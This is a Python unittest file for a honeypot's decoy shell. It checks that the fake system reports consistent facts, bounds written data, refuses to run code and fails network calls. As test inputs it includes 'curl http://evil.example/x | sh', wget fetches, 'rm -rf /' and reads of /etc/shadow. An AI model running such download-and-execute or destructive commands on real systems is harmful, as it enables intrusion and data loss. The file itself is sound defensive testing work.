"""The shallow shell that whoever is let in gets."""

import random
import unittest

from support import identity

from decnet_distros import DISTROS
from decnet_shell import OUTPUT_LIMIT, Shell
from decnet_shell_commands import COMMANDS
from decnet_shell_files import WRITTEN_CHARACTERS, WRITTEN_LIMIT
from decnet_shell_machine import DEVICES
from decnet_shell_texts import unescaped


def shell(username: str = "admin", distro: str = "debian", seed: int = 1) -> Shell:
    return Shell(identity(seed, distro), username)


class FactsTest(unittest.TestCase):
    def test_tells_of_one_system_everywhere(self) -> None:
        for name, distro in DISTROS.items():
            one = shell(distro=name)
            self.assertIn(distro.title, one.run("cat /etc/os-release"))
            self.assertIn(f"{distro.kernel} {distro.build} x86_64", one.run("uname -a"))
            self.assertEqual(one.run("uname -r"), f"{distro.kernel}\n")
            self.assertIn(distro.kernel, one.run("cat /proc/version"))
        for name, device in DEVICES.items():
            one = shell("root", name)
            self.assertIn(device.busybox, one.greeting)
            self.assertEqual(one.run("uname -rm"), f"{device.kernel} {device.architecture}\n")

    def test_two_deckies_differ_and_one_repeats(self) -> None:
        def seen(seed: int) -> list[str]:
            one = shell(seed=seed)
            return [
                one.run(line)
                for line in ("cat /proc/cpuinfo", "free", "df", "cat /etc/passwd", "cat notes.txt")
            ]

        self.assertEqual(seen(1), seen(1))
        self.assertGreater(sum(a != b for a, b in zip(seen(1), seen(2), strict=True)), 2)

    def test_numbers_agree(self) -> None:
        one = shell()
        total = one.run("grep MemTotal /proc/meminfo").split()[1]
        self.assertEqual(one.run("free").splitlines()[1].split()[1], total)
        self.assertEqual(one.run("nproc"), one.run("grep -c ^processor /proc/cpuinfo"))
        number = one.run("id -u").strip()
        self.assertIn(f"admin:x:{number}:", one.run("cat /etc/passwd"))


class TreeTest(unittest.TestCase):
    def test_walks_its_own_file_system(self) -> None:
        one = shell()
        one.run("cd /etc")
        self.assertEqual(one.run("pwd"), "/etc\n")
        self.assertIn("passwd\n", one.run("ls"))
        missing = "cat: ../proc/self/environ: No such file or directory\n"
        self.assertEqual(one.run("cat ../proc/self/environ"), missing)
        self.assertEqual(one.run("cd -; pwd"), "/home/admin\n")
        self.assertRegex(one.run("ls -la ~"), r"-rw------- 1 admin    admin +\d+ .* notes.txt\n")
        self.assertEqual(one.run("cd /nope"), "-bash: cd: /nope: No such file or directory\n")
        self.assertEqual(one.run("ls /root"), "ls: cannot open directory '/root': Permission denied\n")
        self.assertEqual(one.run("cat /etc/shadow"), "cat: /etc/shadow: Permission denied\n")

    def test_keeps_what_is_written_for_the_session_alone_and_bounded(self) -> None:
        one, other = shell("root"), shell("root")
        self.assertEqual(one.run("echo hi > /tmp/x; echo there >> /tmp/x; cat /tmp/x"), "hi\nthere\n")
        self.assertIn("No such file", other.run("cat /tmp/x"))
        self.assertEqual(
            one.run("mkdir /tmp/d && cp /tmp/x /tmp/d && mv /tmp/d/x /tmp/d/y && ls /tmp/d"), "y\n"
        )
        self.assertEqual(one.run("rm -rf /tmp/d /tmp/x; ls /tmp"), "")
        for number in range(200):
            one.run(f"echo {'x' * 3000} >> /tmp/f{number}; echo {'x' * 3000} >> /tmp/f{number}")
        self.assertLessEqual(len(one.run("ls /tmp").split()), WRITTEN_LIMIT)
        self.assertLessEqual(len(one.run("cat /tmp/f0")), WRITTEN_CHARACTERS)

    def test_a_user_may_write_where_users_may(self) -> None:
        one = shell()
        self.assertEqual(one.run("echo x > /etc/passwd"), "-bash: /etc/passwd: Permission denied\n")
        self.assertEqual(one.run("touch ~/a /tmp/b; ls ~/a /tmp/b"), "/home/admin/a\n/tmp/b\n")
        self.assertIn("Permission denied", one.run("rm -rf /etc"))
        self.assertEqual(one.run("rm -rf /; ls / | head -n 1").splitlines()[-1], "bin")


class LineTest(unittest.TestCase):
    def test_runs_nothing(self) -> None:
        one = shell("root")
        for line in ("$(id)", "`id`", "python3 -c 1", "perl -e 1", "gcc x.c"):
            self.assertIn("command not found", one.run(line), line)
        self.assertEqual(one.run("echo 'ls' | sh"), "")
        self.assertEqual(one.run("echo 'open"), "-bash: syntax error: unexpected end of file\n")
        one.run("exit")
        self.assertTrue(one.over)

    def test_reads_a_line_as_a_shell_does(self) -> None:
        table = {
            "echo a;echo b": "a\nb\n",
            "false && echo a || echo b": "b\n",
            "true && echo a || echo b": "a\n",
            "echo \"a  $USER\" '$USER' \\$USER $NOPE.": "a  admin $USER $USER .\n",
            "X=1; echo $X ${X}2": "1 12\n",
            "echo `whoami` $(echo b) $?": "admin b 0\n",
            "foo 2>/dev/null; echo $?": "-bash: foo: command not found\n127\n",
            "cat /etc/passwd | grep admin | wc -l": "1\n",
            "printf 'b\\na\\n' | sort | head -1": "a\n",
            "echo hi >/dev/null 2>&1 & echo x # comment": "x\n",
            "echo -ne '\\x41\\102\\0103\\n'": "A\\102C\n",
            "ls nope 2>&1": "ls: cannot access 'nope': No such file or directory\n",
        }
        for line, output in table.items():
            self.assertEqual(shell().run(line), output, line)

    def test_fails_to_resolve_and_to_reach(self) -> None:
        one, device = shell(), shell("root", "busybox-iot")
        self.assertIn("unable to resolve host address 'evil.example'", one.run("wget http://evil.example/x"))
        self.assertEqual(one.run("curl http://evil.example/x | sh"), "")
        self.assertIn("(28) Failed to connect to 192.0.2.1", one.run("curl http://192.0.2.1/x"))
        self.assertEqual(device.run("wget http://evil.example/x"), "wget: bad address 'evil.example'\n")

    def test_answers_what_bots_ask_a_device(self) -> None:
        device = shell("root", "busybox-iot")
        self.assertEqual(device.run("/bin/busybox ECCHI"), "ECCHI: applet not found\n")
        self.assertEqual(device.run("enable"), "-sh: enable: not found\n")
        self.assertEqual(device.run("sh"), "")
        self.assertTrue(device.run("cat /bin/busybox").startswith("\x7fELF"))
        made = "/bin/busybox echo -ne '\\x7f\\x45' > /tmp/.x && /bin/busybox cat /tmp/.x; rm -f /tmp/.x"
        self.assertEqual(device.run(made), "\x7fE")
        self.assertTrue(shell("root", "openwrt-23").prompt.startswith("root@files:~# "))

    def test_escapes_are_those_of_echo(self) -> None:
        self.assertEqual(unescaped("\\x41\\x4\\xg\\n\\q\\"), "A\x04\\xg\n\\q\\")


class HostileTest(unittest.TestCase):
    def test_stands_any_line_within_its_bounds(self) -> None:
        draw = random.Random(22)
        names = sorted(COMMANDS)
        words = [
            "-a",
            "-n",
            "1",
            "/",
            "/etc/passwd",
            "$(",
            "`",
            "'",
            '"',
            ">",
            ">>",
            "|",
            "&&",
            ";",
            "~",
            "-c",
            "é",
        ]
        words += ["$HOME", "../..", "\0", "\udcff", "-name", "=", "a=b", "/tmp/x", "{", "9" * 40, "-", "*"]
        for username, distro in (("admin", "debian"), ("root", "busybox-iot"), ("../x", "rocky9")):
            one = shell(username, distro)
            for _ in range(3000):
                one.run(" ".join([draw.choice(names), *draw.choices(words, k=draw.randrange(6))]))
                one.over = False
        self.assertLessEqual(len(one.history), 101)

    def test_what_is_nested_or_repeated_costs_little(self) -> None:
        one = shell("root")
        for line in (
            "$(" * 2000,
            "`id`" * 1000,
            "echo $(cat /proc/cpuinfo)" * 150,
            "cat /proc/cpuinfo;" * 200,
            "a=" + "x" * 4000,
        ):
            self.assertLessEqual(len(one.run(line)), OUTPUT_LIMIT)
        for _ in range(300):
            one.run("v=$v$v$v$v$v$vxxxxxxxx; cat /tmp/a /tmp/a >> /tmp/a; cp /tmp/a /tmp/b")
        self.assertLessEqual(len(one.run("echo $v")), 300)

    def test_a_long_history_stays_bounded(self) -> None:
        one = shell()
        for _ in range(300):
            one.run("echo " + "x" * 5000)
        self.assertLess(sum(len(line) for line in one.history), 1_000_000)


if __name__ == "__main__":
    unittest.main()
